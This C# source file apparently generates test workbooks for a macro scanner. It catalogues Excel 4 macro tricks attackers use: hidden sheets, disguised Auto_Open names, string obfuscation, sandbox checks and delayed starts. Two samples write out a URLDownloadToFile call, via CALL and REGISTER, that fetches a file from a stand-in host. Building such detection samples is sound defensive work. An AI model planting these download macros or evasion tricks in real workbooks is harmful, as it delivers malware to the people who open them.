namespace Sekisho.SampleMaker.Catalogue;

/// <summary>Excel 4 macros in every kind of workbook, and how attackers hide and start them.</summary>
internal static class Xlm
{
    private const string Download = "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://host.example/a\",\"..\\a.ocx\",0,0)";

    public static IReadOnlyList<Sample> Samples { get; } =
    [
        Sample.Attached("biff5", "Excel 5 and 95", "list.xls", () => OldXlmWriter.Workbook("harmless")),
        Sample.Attached("biff5-very-hidden", "Excel 5 and 95, the sheet very hidden", "list.xls", () => OldXlmWriter.Workbook("harmless", state: 2)),
        Book("biff8", "Excel 97-2003", b => b.Formula(1, 0, 0, Exec("harmless")).Name("\u0001", 1, 0, 0)),
        Sample.Attached("biff8-hello", "A macro that only says hello", "list.xls", () => XlmSamples.Hello()),
        Sample.Attached("hidden-sheet", "A hidden macro sheet", "list.xls", () => XlmSamples.Hello(state: 1)),
        Sample.Attached("very-hidden-sheet", "A very hidden macro sheet", "list.xls", () => XlmSamples.Hello(state: 2)),
        Book("auto-open-as-text", "Auto_Open as letters instead of the built-in name", b => b.Formula(1, 0, 0, Exec("harmless")).Name("aUtO_oPeN", 1, 0, 0)),
        Book("auto-open-with-more", "A name that only begins with Auto_Open", b => b.Formula(1, 0, 0, Exec("harmless")).Name("Auto_Open_1", 1, 0, 0)),
        Book("auto-open-with-nul", "Auto_Open with zero characters in it", b => b.Formula(1, 0, 0, Exec("harmless")).Name("Auto\0_\0Open", 1, 0, 0)),
        Book("auto-open-hidden-name", "A name that no list shows", b => b.Formula(1, 0, 0, Exec("harmless")).Name("\u0001", 1, 0, 0, isHidden: true)),
        Book("auto-close", "A macro that starts when the workbook is closed", b => b.Formula(1, 0, 0, Exec("harmless")).Name("\u0002", 1, 0, 0)),
        Book("auto-activate", "A macro that starts when the workbook is shown", b => b.Formula(1, 0, 0, Exec("harmless")).Name("\u000A", 1, 0, 0)),
        Book("shared-formula", "The command is a shared formula", b => b.Formula(1, 0, 1, new XlmFormulaWriter().Shared(0, 1)).SharedFormula(1, 0, 1, 1, new XlmFormulaWriter().Distance(0, -1).Text("less").Operator(0x08).Call(1, XlmSamples.Exec))
            .Text(1, 0, 0, "harm").Name("\u0001", 1, 0, 1)),
        Book("shared-strings", "The command's pieces are shared strings on the other sheet", b => b.Text(0, 4, 2, "harm").Text(0, 9, 7, "less").Formula(1, 0, 0, new XlmFormulaWriter().Cell(0, 4, 2).Cell(0, 9, 7).Operator(0x08).Call(1, XlmSamples.Exec)).Name("\u0001", 1, 0, 0)),
        Sample.Attached("emotet-2022", "Formulas put together from single letters on hidden sheets", "list.xls", XlmSamples.Emotet),
        Sample.Attached("xlsb", "A binary workbook (BIFF12)", "list.xlsb", XlmSamples.BinaryPackage),
        Package("xlsm", "A macro sheet in a package", ["EXEC(\"harmless\")", "HALT()"]),
        Package("xltm", "A template with a macro sheet", ["EXEC(\"harmless\")", "HALT()"], fileName: "list.xltm"),
        Package("xlsm-very-hidden", "A very hidden macro sheet in a package", ["EXEC(\"harmless\")", "HALT()"], "veryHidden"),
        Package("call-download", "CALL of URLDownloadToFile", [Download, "HALT()"]),
        Package("register", "REGISTER gives URLDownloadToFile a name of its own", ["REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"getit\",,1,9)", "getit(0,\"https://host.example/a\",\"a.dll\",0,0)", "HALT()"]),
        Package("char-and-mid", "CHAR, MID and &", ["EXEC(CHAR(104)&MID(\"xarmx\",2,3)&\"less\")", "HALT()"]),
        Package("set-value", "SET.VALUE and cell references", ["SET.VALUE(C1,\"harm\")", "SET.VALUE(C2,C1&\"less\")", "EXEC(C2)", "HALT()"]),
        Package("formula-writes-formula", "FORMULA writes the next command", ["FORMULA(\"=EXEC(\"\"harm\"\"&\"\"less\"\")\",A2)", "0", "HALT()"]),
        Package("goto", "GOTO over what is only there to deceive", ["GOTO(A3)", "HALT()", "EXEC(\"harmless\")", "HALT()"]),
        Package("run", "RUN of a piece further down that gives back a name", ["RUN(A4)", "EXEC(\"harm\"&e)", "HALT()", "SET.NAME(\"e\",\"less\")", "RETURN()"]),
        Package("while", "WHILE puts a text together", ["t=\"\"", "SET.NAME(\"n\",0)", "WHILE(n<8)", "SET.NAME(\"n\",n+1)", "SET.NAME(\"t\",t&MID(\"harmless\",n,1))", "NEXT()", "EXEC(t)", "HALT()"]),
        Package("if-sandbox", "IF looks for a sandbox and closes the workbook", ["IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", "IF(GET.WORKSPACE(42),,CLOSE(TRUE))", "EXEC(\"harmless\")", "HALT()"]),
        Package("on-time", "ON.TIME starts a piece later", ["ON.TIME(NOW()+1,\"Macro1!A3\")", "HALT()", "EXEC(\"harmless\")", "HALT()"]),
        Package("never-ends", "A macro without an end", ["GOTO(A1)"]),
        Sample.Attached("honest-formula-as-text", "A worksheet whose text looks like a formula; nothing is wrong", "list.xls", XlmSamples.Plain),
    ];

    private static XlmFormulaWriter Exec(string command) => new XlmFormulaWriter().Text(command).Call(1, XlmSamples.Exec);

    /// <summary>A workbook of a worksheet (0) and a macro sheet (1).</summary>
    private static Sample Book(string name, string shows, Func<XlmWorkbookWriter, XlmWorkbookWriter> fill) => Sample.Attached(name, shows, "list.xls", () =>
    {
        var book = new XlmWorkbookWriter();
        book.AddSheet("Sheet1", isMacro: false);
        book.AddSheet("Macro1", isMacro: true);
        return fill(book).ToArray();
    });

    private static Sample Package(string name, string shows, string[] formulas, string state = "visible", string fileName = "list.xlsm") => Sample.Attached(name, shows, fileName, () => XlmSamples.Package(formulas, state));
}
